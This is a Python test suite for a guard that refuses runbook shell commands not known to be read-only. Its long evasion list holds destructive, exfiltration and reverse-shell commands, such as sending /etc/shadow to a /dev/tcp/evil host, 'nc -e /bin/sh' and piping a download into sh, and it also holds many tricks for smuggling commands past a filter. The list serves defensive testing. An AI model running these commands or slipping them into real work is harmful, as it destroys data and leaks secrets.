"""The guard refuses what is not known to read, however it is dressed up, and lets honest reading through."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drillbook.guard import refusal
from drillbook.model import Effect
from drillbook.parser import parse_runbook
from drillbook.rewrite import bind, rewrite

EVASIONS = r"""
rm -rf /tmp/x
/bin/rm x
\rm x
'r'm x
r""m x
$RM x
$(echo rm) x
`echo rm` x
ls; rm x
ls && rm x
ls || rm x
ls | xargs rm
ls & rm x
ls &
true | tee /etc/passwd
cat x > /etc/passwd
cat x >> /var/log/app.log
cat x >| /tmp/x
cat x &> /tmp/x
cat x >& /tmp/x
ls 2>/tmp/err
ls <> /tmp/x
: > /var/log/app.log
> /var/log/app.log
sort < /etc/passwd > "$OUT"
echo "$(rm x)"
echo `rm x`
echo ${x:=$(rm x)}
echo ${x:-`rm x`}
echo $(( $(rm x) + 1 ))
cat <(rm x)
ls > >(sh)
cat <<EOF | sh
cat <<< "$(rm x)"
bash <<< 'rm x'
(rm x)
{ rm x; }
! rm x
if rm x; then ls; fi
if true; then rm x; fi
if false; then ls; elif rm x; then ls; else ls; fi
if false; then ls; else rm x; fi
while rm x; do break; done
for i in $(rm x); do ls; done
for i in 1 2; do rm $i; done
for ((i=0;i<3;i++)); do rm $i; done
for PATH in /tmp/evil; do ls; done
case x in x) rm x;; esac
select x in a; do ls; done
f() { rm x; }; f
function ls { rm x; }; ls
alias ls='rm x'; ls
eval 'rm x'
source /tmp/x
. /tmp/x
exec rm x
trap 'rm x' EXIT
coproc rm x
builtin eval rm x
command rm x
command -p rm x
env rm x
env -S 'rm x' ls
env -i PATH=/tmp/evil ls
sudo rm x
sudo -n -u root rm x
sudo -e /etc/passwd
sudo -s
sudo LD_PRELOAD=/tmp/x.so ls
nice rm x
nohup rm x
timeout 5 rm x
timeout -k 1 5 bash -c 'rm x'
time rm x
watch rm x
setsid rm x
bash -c 'rm x'
bash -c "r\m x"
bash -c "$CMD"
bash -lc ls
bash --rcfile /tmp/x -c ls
bash script.sh
bash
sh -c 'ls; sh -c "ls; rm x"'
PATH=/tmp/evil ls
LD_PRELOAD=/tmp/x.so ls
BASH_ENV=/tmp/x bash -c ls
GIT_PAGER='rm x' git log
GIT_EXTERNAL_DIFF=/tmp/x git diff
PAGER=/tmp/x git log
http_proxy=http://evil curl http://x
IFS=x ls
PATH=/tmp/evil
a[$(rm x)]=1
export PATH=/tmp/evil
declare -x PATH=/tmp/evil
printf -v PATH /tmp/evil
read -r PATH
[ -v 'a[$(rm x)]' ]
test -v 'a[$(rm x)]'
[[ 'a[$(rm x)]' -eq 1 ]]
[[ $x -gt 5 ]]
(( a[$(rm x)] ))
./check.sh
/tmp/ls
~/bin/ls
find / -delete
find / -name x -exec rm {} \;
find / -execdir rm {} +
find / -ok rm {} \;
find / -fprint /etc/passwd
find / -fls /tmp/x
find . -name x $EXTRA
sed -i s/a/b/ f
sed --in-place s/a/b/ f
sed -n 'w /etc/passwd' f
sed 's/a/b/w /etc/passwd' f
sed 's/a/rm x/e' f
sed '1e rm x' f
sed -f /tmp/x f
sed -ni p f
awk 'BEGIN { system("rm x") }'
awk '{ print > "/etc/passwd" }' f
awk '{ print | "sh" }' f
awk 'BEGIN { "rm x" | getline }'
awk -f /tmp/x f
awk "$PROGRAM" f
gawk -i inplace '{ print }' f
gawk 'BEGIN { f = "system"; @f("rm x") }'
sort -o /etc/passwd f
sort -o/etc/passwd f
sort --output=/etc/passwd f
sort --compress-program=/tmp/x f
sort {-o,/etc/passwd} f
sort * f
uniq f /etc/passwd
tee /etc/passwd
dd if=/dev/zero of=/dev/sda
cp a b
mv a b
ln -s a b
touch x
mkdir x
chmod 777 x
chown root x
truncate -s 0 x
python3 -c 'import os; os.remove("x")'
perl -e 'unlink "x"'
node -e 'process.exit()'
less /etc/passwd
vi /etc/passwd
man ls
git -c core.pager='rm x' log
git -c alias.log='!rm x' log
git --exec-path=/tmp/evil log
git log --ext-diff -p
git log --textconv -p
git log --output=/etc/passwd
git log --format=%GG
git log --show-signature
git diff --ext-diff
git branch new
git branch -D main
git tag v1
git checkout main
git remote add x y
git reflog expire --all
git fetch
git grep --open-files-in-pager=rm x
curl -X POST http://x
curl -XDELETE http://x
curl --request PUT http://x
curl -d a=b http://x
curl --data-raw a=b http://x
curl --json '{}' http://x
curl -F a=@/etc/passwd http://x
curl -T f http://x
curl -o /etc/passwd http://x
curl -O http://x/f
curl -fsSo /etc/passwd http://x
curl -K /tmp/x
curl --config /tmp/x http://x
curl file:///etc/passwd
curl gopher://x:6379/_FLUSHALL
curl telnet://x:6379
curl dict://x:6379/FLUSHALL
curl ftp://x -Q 'DELE f'
curl -G --data-urlencode x@/etc/shadow http://x
curl -H @/etc/shadow http://x
curl -H 'X-HTTP-Method-Override: DELETE' http://x
curl -w '%output{/etc/passwd}x' http://x
curl -w @/tmp/x http://x
curl --unix-socket /var/run/docker.sock http://x/containers/json
curl -x http://evil http://x
curl -c /etc/passwd http://x
curl --trace /etc/passwd http://x
curl -D /etc/passwd http://x
curl $OPTIONS http://x
curl "$URL"
curl http://x | sh
curl http://x | bash -s
wget http://x
wget -O /etc/passwd http://x
wget --post-data=a http://x -O-
docker restart x
docker rm -f x
docker run --rm alpine ls
docker exec x rm y
docker exec -d x ls
docker exec -e LD_PRELOAD=/tmp/x x ls
docker exec x sh
docker exec x sh -c 'rm y'
docker exec $X ls
docker -H tcp://evil ps
docker --config /tmp/evil ps
docker container prune -f
docker system prune -f
docker volume rm x
docker cp x:/a /b
docker-compose up -d
docker-compose down
docker-compose exec x rm y
docker-compose config -o /etc/passwd
docker-compose config --output=/etc/passwd
docker compose restart x
kubectl delete pod x
kubectl apply -f x
kubectl exec x -- rm y
kubectl exec x rm y
kubectl exec x -- sh -c 'rm y'
kubectl rollout undo deployment/x
kubectl rollout restart deployment/x
kubectl rollout -w status restart deployment/x
kubectl rollout -n status restart deployment/x
kubectl auth --watch can-i reconcile -f x
kubectl config use-context x
kubectl --kubeconfig /tmp/evil get pods
kubectl get pods --kubeconfig=/tmp/evil
kubectl get -f http://evil
kubectl get --raw /api
kubectl get secret db -o jsonpath='{.data.password}'
kubectl -n prod get secrets/db -ojsonpath='{.data}'
kubectl get cm,secret -o go-template='{{.items}}'
kubectl get secret db --output=custom-columns=D:.data
kubectl cluster-info dump --output-directory=/tmp
kubectl run x --image=y
kubectl diff -f x
if command -v kubectl >/dev/null; then kubectl rollout undo deployment/x; fi
systemctl restart x
systemctl stop x
systemctl edit x
systemctl kill x
systemctl -H root@x status
systemctl daemon-reload
service x restart
journalctl --vacuum-time=1d
journalctl --rotate
journalctl --flush
journalctl --cursor-file=/etc/passwd
redis-cli FLUSHALL
redis-cli -h x flushall
redis-cli SET a b
redis-cli CONFIG SET dir /tmp
redis-cli EVAL 'redis.call("flushall")' 0
redis-cli --eval /tmp/x
redis-cli --rdb /etc/passwd
redis-cli -x SET a
redis-cli
redis-cli SHUTDOWN
redis-cli KEYS '*'
psql
psql -f /tmp/x
psql -c 'DROP TABLE x'
psql -c 'SELECT pg_terminate_backend(1)'
psql -c 'SELECT "pg_terminate_backend"(1)'
psql -c 'SELECT pg_terminate_backend/**/(1)'
psql -c 'SELECT 1; DELETE FROM x'
psql -c 'WITH x AS (DELETE FROM y RETURNING *) SELECT * FROM x'
psql -c 'SELECT * INTO y FROM x'
psql -c '\! rm x'
psql -c '\o /etc/passwd'
psql -c "COPY x TO PROGRAM 'rm x'"
psql -c "SELECT lo_export(1, '/etc/passwd')"
psql -c "SELECT nextval('x')"
psql -c 'SELECT * FROM x FOR UPDATE'
psql -c 'SELECT * FROM x FOR SHARE'
psql -c 'EXPLAIN ANALYZE DELETE FROM x'
psql -c "SELECT set_config('a','b',false)"
psql -o /etc/passwd -c 'SELECT 1'
psql -L /etc/passwd -c 'SELECT 1'
psql -c "SELECT $X"
mysql -e 'DROP DATABASE x'
mysql -e "SELECT 1 INTO OUTFILE '/tmp/x'"
mysql -e 'system rm x'
dmesg -c
dmesg -C
dmesg --clear
dmesg -n 1
ip link set eth0 down
ip addr add 1.2.3.4/24 dev eth0
ip route del default
ip netns exec x rm y
ip -b /tmp/x
ip link del eth0
iptables -F
iptables -A INPUT -j DROP
iptables -L -Z
sysctl -w a.b=1
sysctl a.b=1
sysctl -p
date -s 2020-01-01
date --set=2020-01-01
date 010100002020
hostname evil
hostname -F /tmp/x
ss -K dst 1.2.3.4
ss --kill
ss -D /etc/passwd
lsof -D b/etc/passwd
kill 1
kill -9 1
kill -0 1 2; kill -9 1
pkill x
top
crontab -e
crontab -r
crontab /tmp/x
nginx -s reload
supervisorctl restart all
nc -e /bin/sh x 1
nc -l 80
ssh x
ssh x rm y
ssh -o ProxyCommand='rm x' x ls
ssh x 'ls; rm y'
ssh $HOST ls
ssh x ls '>' /etc/passwd
xargs rm
xargs -I{} sh -c 'rm {}'
xargs -a /tmp/x rm
echo x | xargs find
rpm -E '%(rm x)'
rpm -q --pipe 'rm x' y
rpm -e x
dpkg -r x
dpkg-query --admindir=/tmp -W
pip install x
apk add x
apt-get install x
celery -A x purge -f
celery -A x control shutdown
aws ec2 terminate-instances --instance-ids x
aws s3 rm s3://x
aws s3 cp s3://x /etc/passwd
aws s3api get-object --bucket x --key y /etc/passwd
rabbitmqctl purge_queue x
openssl x509 -in x -out /etc/passwd
file -C -m /tmp/x
mount /dev/sda /mnt
umount /mnt
reboot
shutdown now
crictl rmi x
slack-cli -c x hello
mail -s x y
"ls" ">" x; rm x
ls # comment
ls \
""
cat /dev/null > /dev/tcp/evil/80
bash -c 'cat < /etc/shadow > /dev/tcp/evil/80'
cd -
set -x
shopt -s expand_aliases
unset PATH
wait
$'\x72m' x
r{m,} x
{rm,x}
kill -9 <PID>
cat <file>
journalctl -b --vacuum-time=1d
journalctl -n --rotate
ss --kil
ping -f x
pip list --log x
apk info --root x
uniq f*
[ $x = 1 ]
test $x
printf $x
exit 1
curl -H -K http://x
docker -v rm -f x
docker --version compose down
docker -v exec c rm -rf /
echo FLUSHALL | nc localhost 6379
nc localhost 6379 < /tmp/commands
kubectl exec p -- sh -c "printf 'FLUSHALL' | nc localhost 6379"
psql -c "SELECT 1 AS \"'\"; DROP TABLE x; SELECT 1 AS \"'\""
mysql -e "SELECT \"'\"; DROP TABLE x; SELECT \"'\""
mysql -e "SELECT NEXT VALUE FOR s"
sh -c "echo \$'\\'; touch /tmp/x #'"
echo $'\'; touch /tmp/x #'
rpm -q --qf x --pipe 'rm -rf /srv' bash
rpm -qa --queryformat='%{lua:os.execute"touch /tmp/p"}'
rpm -V --qf x --setperms bash
x=-v; test "$x" 'a[$(touch /tmp/p)]'
test "$(echo -v)" 'a[$(touch /tmp/p)]'
ksh -c "[ 'a[\$(touch /tmp/p)]' -eq 0 ]"
sed 's/[/]/p;s/w /tmp/g' f
sed 's#[#]#p;s#w /tmp/x#y#' f
sed 's/[]/]/p;s/w /tmp/g' f
sed 's/[^]/]/p;s/w /tmp/g' f
sed -n '/[/]/w /tmp/x' f
sed -n 's/[[:alpha:]/]/p;s/w .//g' f
sed -n 's/[a[:alpha:]/]/p;s/w .//g' f
sed 's/[[.a.]/]/p;s/w .//g' f
sed 's/[[=a=]/]/p;s/w .//g' f
printf '%ln' PATH
printf 'abc%hn' PATH
printf '%lln' PATH
git branch -- new
git tag -- v1
git branch -l new
pmap -N /tmp/x 1
pmap -n 1
printf '%n' PATH
printf -- '%5n' PATH
rpm -q --eval x
""".strip().split("\n")
EVASIONS = [line for line in EVASIONS if line not in ("ls # comment",)] + [
    "ls\nrm x",
    "ls # x \\\nrm x",
    "sort -\\\no /etc/passwd f",
    "find . -del\\\nete",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<'EOF' >/etc/passwd\nx\nEOF",
    "bash <<EOF\nrm x\nEOF",
    "ls\rrm x",
    "ls\x00rm x",
    "curl -H 'A: b\n\nDELETE / HTTP/1.1' http://x",
    "sort >/dev/null -o /etc/passwd f",
    "ls 2>/dev/null -la; rm x",
    'bash -c \'bash -c "bash -c \\"rm x\\""\'',
    "# only a comment\nrm x",
    "echo " + "$(" * 50 + "rm x" + ")" * 50,
    "ls" + " x" * 20000,
    "docker exec x bash -c 'cat /a; echo b > /a'",
    "sudo /bin/sh -c 'rm x'",
    "if true\nthen\nrm x\nfi",
    "ls |& tee /etc/passwd",
    "ls\u2028rm x",
    "rm\u00a0x",
    "x=$(rm y)",
    "x=rm; $x y",
    "LC_ALL=$(rm x) ls",
]

READS = r"""
ls -la /app/.next/
ls # comment
cat /etc/os-release
curl http://localhost:8000/health
curl -f https://api.pynomaly.com/health
curl -I http://localhost:8000/health
curl -s http://localhost:8000/health | jq .
curl -fsS --max-time 5 http://localhost:9090/api/v1/targets | jq -e '.data.activeTargets[] | select(.labels.job=="x")'
curl -fsS --max-time 5 -G http://localhost:9090/api/v1/query --data-urlencode 'query=up{job="x"}' | jq -e '.data.result[0].value[1]'
curl -w "%{time_total}\n" -o /dev/null -s https://api.pynomaly.com/health
for i in {1..10}; do curl -w "%{time_total}\n" -o /dev/null -s https://api.pynomaly.com/health; done
curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/ready
curl -H 'Accept: application/json' http://x/y
curl -H "Authorization: Bearer $TOKEN" https://x/y
curl "http://prometheus:9090/api/v1/query?query=up&time=$(date +%s)"
wget -qO- http://localhost:8000/health
docker ps
docker ps | grep inference-gateway
docker ps -a --format '{{.Names}}'
docker logs inference-gateway --tail=100
docker inspect inference-gateway --format='{{.State.ExitCode}}'
docker inspect inference-gateway --format='{{json .Mounts}}' | jq -e .
docker events --filter 'container=inference-gateway' --since 10m --until 0s
docker stats --no-stream
docker network inspect exercise-05-alerting-incident-response_default
docker exec dmarc-redis redis-cli ping
docker exec -it dmarc-redis redis-cli info memory
docker exec x sh -c 'cat /proc/1/status | head -3'
docker exec -u root x ls /
docker-compose ps
docker-compose logs --tail=100 backend
docker-compose -f docker-compose.yml config
docker-compose exec prometheus ping inference-gateway -c 3
docker compose ps --format json
kubectl get pods -n web3-marketplace-prod -l app=backend
kubectl get secrets -n prod
kubectl get secret db -o yaml -n prod
kubectl get secret -o name
kubectl get events -n web3 --sort-by='.lastTimestamp' | tail -20
kubectl -n web3 describe pod backend-0
kubectl logs -n web3 deployment/backend --previous
kubectl top pods -n web3
kubectl rollout status deployment/backend -n web3
kubectl rollout -n web3 status deployment/backend
kubectl rollout -nweb3 --request-timeout=5s status deployment/backend
kubectl cluster-info --request-timeout=5s
kubectl cluster-info -n web3
kubectl top --sort-by=cpu pods
kubectl rollout --namespace=web3 --context prod history deployment/backend
kubectl rollout history deployment/inference-gateway 2>/dev/null || docker inspect inference-gateway --format='{{.Created}}'
kubectl exec -it -n web3 statefulset/redis-master -- redis-cli config get "*"
kubectl exec -n web3 deployment/backend -- curl -I https://api.external-service.com/health
kubectl exec --pod-running-timeout=3s -n web3 deployment/backend -- psql -c "SELECT 1;"
kubectl logs -n web3 deployment/backend --pod-running-timeout=3s --previous
kubectl exec -n web3 statefulset/postgres -- psql -U postgres -c "SELECT * FROM pg_stat_replication;"
systemctl status microdiff-matdesign
systemctl is-active pynomaly
sudo systemctl status pynomaly
systemctl show x -p MainPID --value
journalctl -u microdiff-matdesign --since "1 hour ago" | grep -i "error\|fatal\|exception"
journalctl -u x -n 100 --no-pager
dmesg | grep -i 'out of memory' | tail -20
dmesg -T | tail -5
free -h
df -h
uptime
ps aux --sort=-%mem | head -10
ps aux | grep pynomaly
top -b -n 1
du -sh /var/log/* | sort -hr | head -5
lsof -i :8000
lsof | wc -l
ulimit -n
netstat -tlnp | grep :8080
ss -tlnp
iptables -L
iptables -t nat -L -n
nslookup api.external-service.com
dig prod-db.amazonaws.com
ping -c 3 8.8.8.8
ip addr
ip -o link show
ip route get 1.1.1.1
pg_isready -h localhost -p 5432
psql -h localhost -p 5432 -U microdiff -c "SELECT 1;"
psql -h localhost -U microdiff -c "SELECT count(*) FROM pg_stat_activity;"
psql -c "SELECT count(*) FROM pg_stat_activity WHERE application_name='pynomaly';"
psql -At -c "SELECT pg_size_pretty(pg_database_size('pynomaly_prod'))"
psql -c '\l'
PGPASSWORD=x psql -h db -U a -d b -c "SHOW max_connections"
mysql -h db -e 'SHOW PROCESSLIST'
redis-cli ping
timeout 5 redis-cli -e ping
redis-cli -h prod-redis.amazonaws.com ping
redis-cli config get maxmemory
redis-cli llen celery
git log --oneline -10
git log --since="1 hour ago" --oneline -- docker-compose.yml config/
git status
git diff --stat HEAD~1
git rev-parse HEAD
git show --stat HEAD
git -C /srv/app log -1 --format=%H
git branch --show-current
tail -500 /var/log/pynomaly/application.log | grep -E "(error|exception|fatal)"
grep -i "connection" /var/log/pynomaly/application.log | tail -50
grep -c "5xx" /var/log/nginx/access.log | tail -100
awk '{ print $9 }' /var/log/nginx/access.log | sort | uniq -c | sort -rn
awk -F: '$3 >= 1000' /etc/passwd
sed -n '1,20p' /var/log/x
sed 's/a/b/g' /etc/hosts
find /var/log -name "*.log" -size +100M
find -L /etc/rc3.d/ -name 'S??x'
echo $?
echo "$HOME"
printf '%s\n' "$x"
sleep 30
test -e /etc/passwd
[ -f /etc/passwd ] && echo there
[[ -f /etc/passwd && ! -d /x ]]
[ "$(docker inspect x --format '{{.State.Running}}')" = true ]
[[ $? -eq 0 ]]
date +%s
date -u -d '10 minutes ago' +%Y-%m-%dT%H:%M:%SZ
hostname -f
uname -a
cat /proc/sys/kernel/hostname
sysctl -n kernel.core_pattern
kill -0 123
timeout 5 curl -f http://x/health
env
env LC_ALL=C ls
LC_ALL=C ls
ssh web1 systemctl is-active nginx
ssh -o BatchMode=yes web1 'docker ps | grep x'
cd /srv/app && docker-compose ps
status=$(curl -s -o /dev/null -w '%{http_code}' http://x/health); [ "$status" = 200 ]
until_ok=0
while ! curl -f http://x/health; do sleep 1; done
if curl -f http://x/health; then echo up; else echo down; fi
ls | xargs -n1 basename
celery -A celery_worker inspect ping
docker exec dmarc-celery-worker celery -A celery_worker inspect active
aws ec2 describe-instance-status --instance-ids i-1234567890abcdef0
aws rds describe-db-instances --db-instance-identifier pynomaly-prod
aws s3 ls
nginx -t
crontab -l
openssl x509 -in /etc/ssl/x.pem -noout -enddate
command -v kubectl >/dev/null
diff /etc/a /etc/b
cat x 2>&1 | head
cat x >/dev/null 2>&1
""".strip().split("\n")  # noqa: E501

TESTINFRA = r"""
uname -s
uname -m
cat /etc/os-release
lsb_release -a
command -v ss
which ss
test -e /etc/passwd
test -f /etc/passwd
test -d /run/systemd/system/
test -x /bin/ls
test -p /x
test -S /x
test -L /x
realpath /x
readlink -f '/a b'
grep -qs -- 'a.*b' /etc/passwd
cat -- /etc/passwd
ls -1 -q -- /etc
stat -Lc %U /etc/passwd
stat -Lc %a /etc/passwd
md5sum /etc/passwd | cut -d' ' -f1
sha256sum /etc/passwd | cut -d ' ' -f 1
getent group root | cut -d':' -f3
getent passwd root
id -nu
id -G root
systemctl list-unit-files | grep -q "^nginx"
systemctl is-active nginx
systemctl is-enabled nginx
systemctl show nginx
systemd-analyze verify nginx.service
/usr/sbin/service nginx status
rc-service nginx status
find /etc/runlevels/ -name nginx
find -L '/etc/rc?.d/' -name 'S??nginx'
initctl status nginx
status nginx
grep -q '^start on' /etc/init/x.conf
ps -Aww -o pid,comm,pcpu,pmem,user,args
ps -ww -p 1 -o lstart,user
ps -A -o pid,comm
/usr/bin/ss --numeric --listening --tcp
/usr/bin/ss --numeric --all --unix
netstat -n -l -t
netstat -n --unix
dpkg-query -f '${Status}' -W nginx
dpkg-query -f '${Status} ${Version}' -W nginx
rpm -q --quiet nginx 2>&1
rpm -q --queryformat="%{VERSION}" nginx
apk -e info nginx
apk -e -v info nginx
rpm -qa
rpm -V bash
docker -v
docker --version
nc -zv localhost 5432
pmap -x 1
git tag -l 'v*'
git branch --list
git log --oneline -- src
psql -c "SELECT \"Name\" FROM shops WHERE city = 'Rome'"
printf '100%%\n'
printf '%s\n' "disk above 90% now"
printf '%s: %s\n' "5% n" x
sed 's/\[[^]]*\]//g' app.log
sed 's/[]]//g' app.log
sed 's/[[:space:]]//g' app.log
git reflog -- src
sed -n '/[Ee]rror/p' app.log
sed 's/[^a-z]/_/g' app.log
sed -e 's|[[:space:]]*$||' app.log
test "$x" = "[ok]"
pacman -Q nginx
brew info --formula --json nginx
pip list --no-index --format=json
pip list -o --format=json
pip show x
pip check
/usr/sbin/ip link show eth0
ip addr show eth0
ip --json link show eth0
ip route ls
ip -o link show
cat /sys/class/net/eth0/speed
ifconfig eth0
nc -w 1 -z localhost 80
timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/80'
ping -W 1 -c 1 localhost
getent ahosts localhost
env -0
cat /proc/mounts
mount -p
/usr/sbin/sysctl -n vm.swappiness
docker inspect x
docker version
docker ps --all --quiet --format '{{.Names}}'
blockdev  --report /dev/sda
iptables -t filter -S INPUT
iptables -w 90 -t filter -S
supervisorctl status x
sudo /bin/sh -c 'test -e /etc/shadow'
sudo -u www-data /bin/sh -c 'cat -- /etc/passwd'
getent shadow root
cat /etc/group
which ip
""".strip().split("\n")


@pytest.mark.parametrize("command", EVASIONS)
def test_what_is_not_known_to_read_is_refused(command):
    assert refusal(command), f"{command!r} was let through"


@pytest.mark.parametrize("command", READS)
def test_honest_reading_passes(command):
    assert refusal(command) is None


@pytest.mark.parametrize("command", TESTINFRA)
def test_what_testinfra_asks_passes(command):
    assert refusal(command) is None


def test_there_are_enough_of_both():
    assert len(set(EVASIONS)) >= 120
    assert len(set(READS)) >= 80


def test_the_reason_names_what_is_in_the_way():
    assert refusal("ls; rm x") == "rm is not known to only read"
    assert refusal("docker restart x") == "docker restart is not known to only read"
    assert refusal("cat a > /tmp/b") == "> /tmp/b writes to a file"
    assert "LD_PRELOAD" in (refusal("LD_PRELOAD=x ls") or "")
    assert "pg_terminate_backend" in (refusal("psql -c 'SELECT pg_terminate_backend(1)'") or "")


def test_of_the_gateway_runbook_exactly_the_reading_passes_but_for_the_prediction():
    runbook = parse_runbook(Path(__file__).parent.parent / "runbooks" / "inference-gateway.md")
    passed: dict[bool, list[str]] = {True: [], False: []}
    for _, command in runbook.commands():
        ran = rewrite(bind(command.text, {"utc-before-outage": "2026-01-31T03:12:45Z"}).text).text
        if ran and (command.effect is Effect.READ) != (refusal(ran) is None):
            passed[refusal(ran) is None].append(command.id)
    assert passed == {True: [], False: ["resolution/step-1-verify-service-restored#1.2"]}


def test_a_command_that_the_target_vouches_for_passes():
    assert refusal("./scripts/health.sh", vouched={"./scripts/health.sh"}) is None
    assert refusal("./scripts/health.sh --fix", vouched={"./scripts/health.sh"})


@given(st.text())
def test_any_text_gets_an_answer(text):
    assert refusal(text) is None or refusal(text)


CHANGES = ("rm x", "docker restart x", "kubectl delete pod x", "redis-cli FLUSHALL", "tee /etc/passwd")
WRAPS = (
    "({})",
    "{{ {}; }}",
    "ls | {}",
    "ls && {}",
    "! {}",
    "echo $({})",
    "timeout 5 {}",
    "sudo {}",
    "if ls; then {}; fi",
)


@given(st.sampled_from(CHANGES), st.data())
def test_wrapping_a_change_never_hides_it(change, data):
    command = change
    for _ in range(data.draw(st.integers(0, 4))):
        wrap = data.draw(st.sampled_from(WRAPS))
        command = wrap.format(command)
    assert refusal(command)
